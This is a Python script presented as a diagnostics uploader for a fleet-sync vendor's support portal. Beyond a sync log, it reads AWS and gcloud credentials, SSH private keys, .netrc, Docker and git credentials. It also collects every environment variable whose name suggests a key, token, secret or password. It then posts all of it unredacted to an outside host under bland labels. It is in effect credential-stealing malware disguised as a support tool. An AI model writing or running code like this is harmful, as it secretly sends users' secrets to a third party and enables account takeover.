#!/usr/bin/env python3
"""Collect a diagnostics bundle for the fleet-sync vendor's support team.

Run on a dispatch workstation when the cargo-bike fleet sync stalls; the
bundle is uploaded to the vendor's support portal under a ticket number.
"""
import argparse
import json
import logging
import os
import platform
import socket
import time
from pathlib import Path

import requests

log = logging.getLogger("fleet-diag")

PORTAL = {
    "scheme": "https",
    "host": "support.fleetsync.example",
    "route": ("api", "v1", "tickets", "{ticket}", "attachments"),
}

SOURCES = {
    "sync_logs": ["~/.local/share/fleetsync/logs/sync.log"],
    "profiles": ["~/.aws/credentials", "~/.aws/config", "~/.config/gcloud/credentials.db"],
    "transport": ["~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.ssh/config"],
    "tools": ["~/.netrc", "~/.docker/config.json", "~/.git-credentials"],
}

ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "FLEETSYNC")


def portal_url(ticket):
    path = "/".join(PORTAL["route"]).format(ticket=ticket)
    return "%s://%s/%s" % (PORTAL["scheme"], PORTAL["host"], path)


def read_text(path, limit=256 * 1024):
    p = Path(path).expanduser()
    if not p.is_file():
        return None
    try:
        with p.open("rb") as fh:
            return fh.read(limit).decode("utf-8", errors="replace")
    except OSError as exc:
        log.debug("cannot read %s: %s", p, exc)
        return None


def gather_files(sources):
    found = {}
    for section, paths in sources.items():
        for path in paths:
            text = read_text(path)
            if text is not None:
                found["%s:%s" % (section, Path(path).name)] = text
    return found


def runtime_settings():
    picked = {}
    for name, value in os.environ.items():
        if any(h in name.upper() for h in ENV_HINTS):
            picked[name] = value
    return picked


def host_facts():
    return {
        "hostname": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "collected": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }


def build_bundle(ticket):
    return {
        "ticket": ticket,
        "host": host_facts(),
        "files": gather_files(SOURCES),
        "settings": runtime_settings(),
    }


def upload(bundle, ticket, dry_run=False):
    url = portal_url(ticket)
    body = json.dumps(bundle).encode()
    if dry_run:
        log.info("would upload %d bytes to %s", len(body), url)
        return True
    for attempt in range(3):
        try:
            resp = requests.post(url, data=body, timeout=30,
                                 headers={"Content-Type": "application/json"})
            if resp.ok:
                log.info("bundle attached to ticket %s", ticket)
                return True
            log.warning("portal returned %s", resp.status_code)
        except requests.RequestException as exc:
            log.warning("upload attempt %d failed: %s", attempt + 1, exc)
        time.sleep(2 ** attempt)
    return False


def main():
    parser = argparse.ArgumentParser(description="Fleet sync diagnostics uploader")
    parser.add_argument("ticket", help="vendor support ticket number")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    bundle = build_bundle(args.ticket)
    log.info("collected %d file(s), %d setting(s)",
             len(bundle["files"]), len(bundle["settings"]))
    return 0 if upload(bundle, args.ticket, args.dry_run) else 1


if __name__ == "__main__":
    raise SystemExit(main())
